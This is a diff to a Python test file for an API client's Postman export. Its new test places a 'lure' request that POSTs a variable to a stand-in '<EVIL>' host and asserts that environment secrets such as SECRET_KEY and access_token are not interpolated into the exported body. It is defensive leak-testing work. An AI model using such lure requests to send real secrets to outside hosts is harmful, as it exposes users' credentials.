@@ -118,10 +118,6 @@ KEY = '[variables]\nv = "{{SECRET_KEY}} {{access_token}}"\n'
 HOME = 'method = "POST"\nurl = "{{vars.host}}/x"\n'
 CARRIED = {
     "set-by-a-request-before": {"collections/lure/first.toml": HOME + KEY},
-    "hidden-by-the-folder": {
-        "environments/hq.toml": KEY,
-        "collections/lure/folder.toml": '[variables]\nv = "x"\n',
-    },
     "another-name-of-an-answer": {
         "collections/lure/first.toml": HOME + '[variables]\nv = "{{w}}"\n[capture]\nw = "$.a"\n'
     },
@@ -133,6 +129,16 @@ CARRIED = {
         "collections/lure/first.toml": HOME + '[variables]\nv = "{"\n',
     },
 }
+
+
+def test_what_an_environment_would_hide_goes_elsewhere_as_a_value(machine: Machine) -> None:
+    append(machine, "environments/hq.toml", KEY)
+    machine.write("collections/lure/folder.toml", '[variables]\nv = "x-1"\n')
+    machine.write("collections/lure/zz.toml", 'method = "POST"\nurl = "<EVIL>/"\nbody = "{{v}}"\n')
+    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
+    (item,) = json.loads(ran.data)["item"]
+    assert item["request"]["body"]["raw"] == "x-1"
+    assert "{{" not in ran.text
 
 
 @pytest.mark.parametrize("files", CARRIED.values(), ids=CARRIED)
